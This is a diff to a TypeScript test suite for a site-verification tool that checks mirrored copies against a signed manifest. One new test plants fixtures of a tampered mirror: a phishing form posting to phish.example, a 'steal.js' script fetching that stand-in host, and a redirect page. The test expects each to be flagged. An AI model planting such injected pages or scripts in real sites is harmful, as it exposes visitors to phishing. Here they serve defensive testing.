@@ -102,12 +102,12 @@ beforeEach(async () => {
 });
 afterEach(() => close?.());
 
-/** Starts the preview server on the copy, on a free port, and returns its address. */
-async function serve(): Promise<string> {
-  const server = createStaticServer(site).listen(0, '127.0.0.1');
+/** Starts the preview server on the copy, on a free port, and returns its address (under `prefix`, if given). */
+async function serve(prefix?: string): Promise<string> {
+  const server = createStaticServer(site, { prefix }).listen(0, '127.0.0.1');
   await new Promise((resolve) => server.once('listening', resolve));
   close = () => new Promise((resolve) => server.close(() => resolve()));
-  return `http://127.0.0.1:${(server.address() as AddressInfo).port}/`;
+  return `http://127.0.0.1:${(server.address() as AddressInfo).port}/${prefix ? `${prefix}/` : ''}`;
 }
 
 describe('verify-site', () => {
@@ -115,7 +115,14 @@ describe('verify-site', () => {
     const key = await readSiteKey(keyRoot, keyFile);
     const base = await serve();
     const served = await verifyCopy(httpCopy(base), key);
-    expect(served).toMatchObject({ differences: [], built: BUILT, validUntil: VALID_UNTIL, days: 3 });
+    // Over HTTP every address the pages link to is followed too: each is a file the manifest lists.
+    expect(served).toMatchObject({
+      differences: [],
+      extra: [],
+      built: BUILT,
+      validUntil: VALID_UNTIL,
+      days: 3,
+    });
     expect(served.untrusted).toBeUndefined();
     // Every page is asked for by its file's path, about/index.html, which the server answers.
     expect(served.files).toBeGreaterThan(100);
@@ -126,6 +133,14 @@ describe('verify-site', () => {
       `The host sends all ${securityHeaders({ flagSource: 'site', flagBaseUrl: '' }).length} security headers the build asks for.`,
       `All ${served.files} files at ${base} match the manifest of the build of ${BUILT} (3 days old, valid until ${VALID_UNTIL}), signed with the key ${key.getFingerprint().toUpperCase()}.`,
     ]);
+    expect(code).toBe(0);
+  });
+
+  it('passes an exact copy a mirror serves under a path prefix, following its links only within it', async () => {
+    const base = await serve('mirror-of-masky');
+    const { code, out } = await verifySite(base);
+    expect(out).toMatch(/^All \d+ files at http:\/\/127\.0\.0\.1:\d+\/mirror-of-masky\/ match the manifest/m);
+    expect(out).not.toContain('not in the manifest');
     expect(code).toBe(0);
   });
 
@@ -245,6 +260,42 @@ describe('verify-site', () => {
       'not in the manifest: assets/steal.js',
       'not in the manifest: notes\\x1b[2J.txt',
       `At ${site}, 3 files are not in the manifest signed with the key ${(await readSiteKey(keyRoot, keyFile)).getFingerprint().toUpperCase()}.`,
+    ]);
+    expect(code).toBe(1);
+  });
+
+  it('over HTTP, fails naming each added page and script a page links to, and what they link to', async () => {
+    // A mirror's host cannot be listed; what a reader can reach from its pages is what counts.
+    await mkdir(path.join(site, 'account-check'), { recursive: true });
+    await writeFile(
+      path.join(site, 'account-check/index.html'),
+      '<form action="https://phish.example/"><script src="../assets/steal.js"></script><a href="step-2.html">Next</a>',
+    );
+    await writeFile(
+      path.join(site, 'account-check/step-2.html'),
+      '<meta http-equiv="refresh" content="0; url=/">',
+    );
+    await writeFile(path.join(site, 'assets/steal.js'), 'fetch("https://phish.example/")');
+    // Linked from nowhere: a reader cannot reach it, and over HTTP nothing can find it.
+    await writeFile(path.join(site, 'assets/unlinked.js'), '');
+    const page = path.join(site, 'about/index.html');
+    const html = await readFile(page, 'utf8');
+    await writeFile(
+      page,
+      html.replace('</main>', '<a href="../account-check/">Check your account</a></main>'),
+    );
+    const { code, out } = await verifySite(await serve());
+    const fingerprint = (await readSiteKey(keyRoot, keyFile)).getFingerprint().toUpperCase();
+    expect(out.trim().split('\n').slice(1)).toEqual([
+      'changed: about/index.html (larger than the manifest says)',
+      'not in the manifest: account-check/index.html',
+      'not in the manifest: account-check/step-2.html',
+      'not in the manifest: assets/steal.js',
+      expect.stringMatching(
+        new RegExp(
+          `^At http://127\\.0\\.0\\.1:\\d+/, 1 of \\d+ files differ from, and 3 files are not in the manifest signed with the key ${fingerprint}\\.$`,
+        ),
+      ),
     ]);
     expect(code).toBe(1);
   });
